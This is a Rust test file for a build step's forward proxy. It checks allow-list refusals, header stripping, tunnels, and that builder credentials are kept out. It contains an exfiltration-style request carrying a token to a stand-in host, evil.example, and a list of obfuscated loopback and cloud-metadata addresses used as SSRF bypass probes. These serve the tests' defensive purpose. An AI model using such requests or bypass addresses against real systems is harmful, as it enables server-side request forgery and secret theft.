//! The forward proxy and its tunnels.

use super::packages::Draft;
use super::*;
use crate::server::Body;

const CLOSE: &str = "Host: x\r\nConnection: close\r\n";

#[test]
fn a_host_no_rule_names_is_refused_by_name() {
    let store = tempfile::tempdir().unwrap();
    let step = step(store.path(), options(&["allowed.example"]));
    let expected = "evil.example:80 may not be reached by a build step; the site's network.allow decides\n";
    let (status, body) = step.get("http://evil.example/?token=secret");
    assert_eq!((status, text(&body)), (403, expected));
    let (status, _) = step.ask("CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n");
    assert_eq!(status, 403);
    let (status, _) = step.ask("CONNECT allowed.example:22 HTTP/1.1\r\nHost: x\r\n\r\n");
    assert_eq!(status, 403);
    let exchanges = step.finish();
    let urls: Vec<&str> = exchanges.iter().map(|exchange| exchange.url.as_str()).collect();
    assert_eq!(urls, ["http://evil.example/?token=***", "evil.example:443", "allowed.example:22"]);
    assert!(exchanges.iter().all(|exchange| exchange.status == 403 && !why(exchange).is_empty()));
}

#[test]
fn a_star_does_not_open_the_way_to_the_builder_itself() {
    let store = tempfile::tempdir().unwrap();
    let server = files(BTreeMap::new());
    let step = step(store.path(), options(&["*", "*:*"]));
    let port = server.address.port();
    for host in
        ["127.0.0.1", "localhost", "[::1]", "2130706433", "0x7f.1", "0.0.0.0", "[::ffff:127.0.0.1]", "169.254.169.254"]
    {
        assert_eq!(step.get(&format!("http://{host}:{port}/")).0, 403, "{host}");
        let (status, _) = step.ask(&format!("CONNECT {host}:{port} HTTP/1.1\r\nHost: x\r\n\r\n"));
        assert_eq!(status, 403, "{host}");
    }
    assert_eq!(server.lines().len(), 0);
}

#[test]
fn requests_are_passed_on_without_what_is_between_two_hops() {
    let store = tempfile::tempdir().unwrap();
    let server = serve(|seen| {
        let answer = Answer::new(302, "body").header("Location", "http://elsewhere.example/");
        answer.header("Connection", "X-Hop").header("X-Hop", "1").header("X-Echo", seen.header("x-end").unwrap_or("-"))
    });
    let step = step(store.path(), options(&["127.0.0.1:*"]));
    let request = format!(
        "GET {} HTTP/1.1\r\nHost: evil.example\r\nConnection: close, x-mine\r\nX-Mine: 1\r\nProxy-Authorization: Basic x\r\nX-End: 2\r\n\r\n",
        server.url("/a?b=1")
    );
    let (status, head, body) = step.ask_whole(&request);
    assert_eq!((status, text(&body)), (302, "body"));
    assert!(head.contains("location: http://elsewhere.example/\r\n") && head.contains("x-echo: 2\r\n"), "{head}");
    assert!(!head.contains("x-hop: 1"), "{head}");
    let seen = &server.seen()[0];
    assert_eq!(seen.target, "/a?b=1");
    assert_eq!(seen.header("host"), Some(server.address.to_string().as_str()));
    assert_eq!((seen.header("x-mine"), seen.header("proxy-authorization")), (None, None));
    let exchange = step.finish().remove(0);
    assert_eq!(exchange.what, What::Proxied { method: "GET".to_owned() });
    assert_eq!((exchange.status, exchange.bytes, exchange.fetched), (302, 4, 4));
    assert_eq!(exchange.digest, Some(oci::Digest::of(b"body")));
}

#[test]
fn bodies_go_both_ways() {
    let store = tempfile::tempdir().unwrap();
    let server = serve(|_| Answer::with(200, Body::Chunked(b"answer".to_vec())));
    let step = step(store.path(), options(&["127.0.0.1:*"]));
    let url = server.url("/");
    let (status, head, body) = step.ask_whole(&format!("POST {url} HTTP/1.1\r\n{CLOSE}Content-Length: 5\r\n\r\nhello"));
    assert_eq!((status, text(&body)), (200, "6\r\nanswer\r\n0\r\n\r\n"), "{head}");
    let chunked = "Transfer-Encoding: chunked\r\n\r\n3;x=y\r\nhel\r\n2\r\nlo\r\n0\r\nX-Trailer: 1\r\n\r\n";
    step.ask_whole(&format!("PUT {url} HTTP/1.1\r\n{CLOSE}{chunked}"));
    let (_, _, body) = step.ask_whole(&format!("PUT {url} HTTP/1.0\r\nContent-Length: 5\r\n\r\nhello"));
    assert_eq!(text(&body), "answer");
    let bodies: Vec<Vec<u8>> = server.seen().into_iter().map(|seen| seen.body).collect();
    assert_eq!(bodies, [b"hello", b"hello", b"hello"]);
}

#[test]
fn a_tunnel_carries_bytes_both_ways_and_ends_with_the_step() {
    let store = tempfile::tempdir().unwrap();
    let server = files([("/x".to_owned(), b"content".to_vec())].into());
    let step = step(store.path(), options(&["127.0.0.1:*"]));
    let mut stream = TcpStream::connect(step.address).unwrap();
    // The request inside the tunnel comes along with the CONNECT.
    let inner = "GET /x HTTP/1.1\r\nHost: y\r\n\r\n";
    write!(stream, "CONNECT {} HTTP/1.1\r\nHost: x\r\n\r\n{inner}", server.address).unwrap();
    let mut answer = vec![0; 0];
    while !answer.ends_with(b"content") {
        let mut piece = [0; 512];
        let length = stream.read(&mut piece).unwrap();
        assert_ne!(length, 0, "{}", text(&answer));
        answer.extend_from_slice(&piece[..length]);
    }
    assert!(answer.starts_with(b"HTTP/1.1 200 "));
    let exchange = step.finish().remove(0);
    assert_eq!((exchange.what, exchange.url, exchange.status), (What::Tunnel, server.address.to_string(), 200));
    let head = b"HTTP/1.1 200 Connection established\r\n\r\n".len() as u64;
    assert_eq!(exchange.bytes, answer.len() as u64 - head);
    assert_eq!(stream.read(&mut [0; 1]).unwrap(), 0);
}

#[test]
fn a_mirror_path_may_be_asked_for_through_the_proxy() {
    let store = tempfile::tempdir().unwrap();
    let server = files(Draft::new(&[("a.rpm", b"a")]).files("/os"));
    let step = step(store.path(), options(&[]));
    let base = step.site(&format!("baseurl={}", server.url("/os"))).remove(0);
    assert_eq!(step.get(&format!("http://127.0.0.1:3128{base}/a.rpm")), (200, b"a".to_vec()));
    assert_eq!(step.get("http://localhost:3128/elsewhere").0, 404);
    let (status, _) = step.ask("CONNECT 127.0.0.1:3128 HTTP/1.1\r\nHost: x\r\n\r\n");
    assert_eq!(status, 403);
}

#[test]
fn no_credentials_of_the_builder_go_through_the_proxy() {
    let store = tempfile::tempdir().unwrap();
    let server = files(BTreeMap::new());
    let credentials = stratum_gateway::HostCredentials {
        host: "127.0.0.1:*".parse().unwrap(),
        user: "u".to_owned(),
        password: http::Secret::new("p"),
    };
    let options = Options { credentials: vec![credentials], ..options(&["127.0.0.1:*"]) };
    let step = step(store.path(), options);
    step.get(&server.url("/x"));
    step.get(&server.url("/x").replace("http://", "http://a:b@"));
    assert!(server.seen().iter().all(|seen| seen.header("authorization").is_none()));
    let base = step.site(&format!("baseurl={}", server.url("/os"))).remove(0);
    step.get(&format!("{base}/repodata/repomd.xml"));
    assert_eq!(server.seen().last().unwrap().header("authorization"), Some("Basic dTpw"));
    assert!(step.finish().iter().all(|exchange| !exchange.url.contains("a:b")));
}
